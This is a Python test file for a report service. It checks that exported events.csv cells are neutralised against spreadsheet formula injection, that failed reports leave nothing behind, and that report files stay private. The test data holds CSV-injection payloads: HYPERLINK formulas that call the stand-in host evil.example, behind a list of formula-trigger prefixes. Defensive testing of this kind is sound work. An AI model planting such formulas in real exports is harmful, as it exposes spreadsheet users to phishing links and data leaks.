"""Reports against hostile data and failures: every events.csv cell, in every column, is inert in
a spreadsheet (OWASP CSV injection); a report that fails leaves nothing behind and says why; a
written report is private to its user (0700 folder, 0600 files)."""

from __future__ import annotations

import csv
import io
import os
import stat
from pathlib import Path

import pytest

from core.events import Event
from core.settings import Settings
from services.reports import (
    ReportError,
    ReportUnavailable,
    Subject,
    csv_cell,
    publish_report,
    reports_dir,
    verify_manifest,
    write_report,
)
from storage import Store
from storage.rows import event_row
from tests.services.test_api import T0

# What can start a formula, or hide one behind leading blanks.
PREFIXES = ["=", "+", "-", "@", "\t", "\r", "\n", "\t=", " =", "\r\n=", " \t@", "\x00="]
ACCOUNT = "@acct-hostile"  # the account id is client-supplied too
# Every text column of events.csv and the `events` row field behind it.
COLUMNS = {
    "request_id": "request_id",
    "model": "model",
    "params_json": "params_json",
    "client_ip": "client_ip",
    "user_agent": "user_agent",
    "prompt": "prompt_text",
}


def _hostile(prefix: str, column: str) -> str:
    return f'{prefix}HYPERLINK("http://evil.example/?{column}";"click")'


def _seed(store: Store) -> None:
    rows = []
    for i, prefix in enumerate(PREFIXES):
        event = Event.model_validate(
            {
                "request_id": f"r-{i}",
                "account_id": ACCOUNT,
                "timestamp": int(T0.timestamp() * 1000) + i * 60_000,
                "prompt": "placeholder",
                "prompt_tokens": 20,
                "completion_tokens": 200,
            }
        )
        # Written as a row, the way any client-supplied text could reach the store.
        hostile = {field: _hostile(prefix, column) for column, field in COLUMNS.items()}
        rows.append({**event_row(event), **hostile})
    store.insert("events", rows)


def test_every_cell_of_every_column_is_formula_safe(store: Store, tmp_path: Path) -> None:
    _seed(store)
    folder = tmp_path / "report"
    write_report(store, Settings(), Subject(account_id=ACCOUNT), folder, pdf=False)
    text = (folder / "events.csv").read_bytes().decode()
    header, *rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == len(PREFIXES)
    by_prefix = {row[header.index("request_id")][1:]: row for row in rows}
    for prefix in PREFIXES:
        row = by_prefix[_hostile(prefix, "request_id")]
        for column in COLUMNS:
            # Neutralised and otherwise intact: the quote, then exactly what the client sent.
            assert row[header.index(column)] == "'" + _hostile(prefix, column), (prefix, column)
        assert row[header.index("account_id")] == "'" + ACCOUNT
    for row in rows:
        for cell in row:
            assert cell.startswith("'") or not cell.lstrip().startswith(("=", "+", "-", "@"))
            assert not cell.startswith(("\t", "\r", "\n", "\x00")), cell
    assert verify_manifest(folder) == []


def test_harmless_cells_are_left_alone() -> None:
    for value in ("hello", "", "42", " hello", "a=b", "2026-11-20T12:00:00+00:00", "'=quoted"):
        assert csv_cell(value) == value
    assert csv_cell(None) == "" and csv_cell(20) == "20"
    assert csv_cell(-5) == "'-5"  # a negative number would be read as a formula too


def _no_chromium(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    empty = tmp_path / "empty-path"
    empty.mkdir()
    monkeypatch.setenv("PATH", str(empty))


def test_a_report_without_chromium_leaves_nothing_and_says_why(
    embedded: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _seed(embedded)
    _no_chromium(monkeypatch, tmp_path)
    parent = tmp_path / "out"
    parent.mkdir()
    with pytest.raises(ReportUnavailable, match="Chromium") as failed:
        write_report(embedded, Settings(), Subject(account_id=ACCOUNT), parent / "report")
    assert "pdf=false" in str(failed.value) and isinstance(failed.value, ReportError)
    assert list(parent.iterdir()) == []  # neither the report nor its temporary folder

    settings = Settings(data_dir=tmp_path / "data")
    with pytest.raises(ReportUnavailable):
        publish_report(embedded, settings, Subject(account_id=ACCOUNT))
    assert list(reports_dir(settings).iterdir()) == []  # the API leaves no orphan folder


def test_a_report_never_mixes_into_a_folder_in_use(embedded: Store, tmp_path: Path) -> None:
    _seed(embedded)
    folder = tmp_path / "report"
    folder.mkdir()
    (folder / "notes.txt").write_text("an investigator's notes")
    with pytest.raises(ReportError, match="not empty"):
        write_report(embedded, Settings(), Subject(account_id=ACCOUNT), folder, pdf=False)
    assert [p.name for p in tmp_path.iterdir()] == ["report"]
    assert [p.name for p in folder.iterdir()] == ["notes.txt"]


def test_reports_are_private_to_their_user(embedded: Store, tmp_path: Path) -> None:
    _seed(embedded)
    previous = os.umask(0o022)  # a library caller's usual umask: files would be 0644
    try:
        settings = Settings(data_dir=tmp_path / "data")
        report_id, _ = publish_report(embedded, settings, Subject(account_id=ACCOUNT), pdf=False)
    finally:
        os.umask(previous)
    folder = reports_dir(settings) / report_id
    for path in (settings.data_dir, reports_dir(settings), folder):
        assert stat.S_IMODE(path.stat().st_mode) == 0o700, path
    modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in folder.iterdir()}
    assert "events.csv" in modes and set(modes.values()) == {0o600}, modes
